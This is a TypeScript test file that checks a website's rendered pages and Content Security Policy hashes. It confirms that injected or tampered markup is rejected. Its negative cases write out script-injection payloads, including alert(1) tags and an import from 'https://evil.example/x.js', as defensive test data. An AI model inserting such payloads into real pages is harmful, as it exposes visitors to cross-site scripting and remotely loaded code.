import { createHash } from "node:crypto";
import { ownScriptsHeader } from "@octroi/ui/inline-scripts/own-scripts";
import { languageOf } from "@octroi/ui/language/language";
import { documentOf, UnexpectedDocument } from "@octroi/web/pages/document";
import { expect, test } from "vitest";
import { splitPath } from "../../../site/domain/pages/pages.ts";
import { everyPage } from "../../../tests/site/browser/every-page.ts";
import { builtPages } from "../../../tests/site/whole-site.ts";

/** What the application really prints for a page, and what it says of our own scripts in it. */
async function printed(path: string): Promise<[string, string | null]> {
  const context = { language: languageOf(splitPath(path)), today: "2026-11-18" };
  const response = await builtPages(new Request(`https://octroi.example${path}`), context);
  return [await response.text(), response.headers.get(ownScriptsHeader)];
}

const [page, own] = await printed("/fr/pricing");

test("no script is asked for before the page has loaded", () => {
  expect(page).not.toMatch(/<link[^>]* rel="modulepreload"|<script[^>]* src=/);
  const inline = [...page.matchAll(/<script(?: type="module")?>([\s\S]*?)<\/script>/g)].map(
    ([, code]) => code,
  );
  expect(inline).toHaveLength(2);
  const [early, late] = inline;
  expect(early).not.toContain("/assets/");
  expect(late).toMatch(/addEventListener\("load", run\);$/);
});

test("a page that only reads asks for nothing of React", () => {
  expect(page.match(/\/assets\/[\w.-]+\.js/g)?.filter((file) => /react|hydrate/.test(file))).toEqual([]);
});

test.each([...everyPage, "/fr/crawlers/gptbot", "/en/crawlers/no-such", "/404/404"])(
  "what is printed for %s is recognized, and the policy allows it alone",
  async (path) => {
    const { html, policy } = documentOf(...(await printed(path)));
    const allowed = policy.match(/'sha256-[^']+'/g);
    const inline = [...html.matchAll(/<(script|style)(?! type="application\/)[^>]*>([\s\S]*?)<\/\1>/g)];
    const hashes = inline.map(
      ([, , code = ""]) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`,
    );
    expect(new Set(allowed)).toEqual(new Set(hashes));
  },
);

test.each([
  ["an injected script", (html: string) => html.replace("<main", "<script>alert(1)</script><main")],
  [
    "one that does not end as it should",
    (html: string) => html.replace("<main", "<SCRIPT>alert(1)</script x><main"),
  ],
  ["one with an address", (html: string) => html.replace("<main", '<script src="/x.js"></script><main')],
  [
    "one that passes for data",
    (html: string) =>
      html.replace("<main", '<script type="application/json" type="module">alert(1)</script><main'),
  ],
  ["another script in the place of ours", (html: string) => html.replace("<script>(", "<script>alert(1);(")],
  ["a second style sheet", (html: string) => html.replace("<main", "<style>*{color:red}</style><main")],
  [
    "another import",
    (html: string) => html.replace("await import(", 'import("https://evil.example/x.js");await import('),
  ],
  ["another kind of script", (html: string) => html.replace('type="module"', 'type="module" src="/x.js"')],
  [
    "ours in another order",
    (html: string) => html.replace(/(<script>[\s\S]*?<\/script>)([\s\S]*)<\/body>/, "$2$1</body>"),
  ],
  ["no scripts at all", (html: string) => html.replace(/<script[\s\S]*?<\/script>/g, "")],
])("%s is an error, not a page", (_, change) => {
  const changed = change(page);
  expect(changed).not.toBe(page);
  expect(() => documentOf(changed, own)).toThrow(UnexpectedDocument);
});
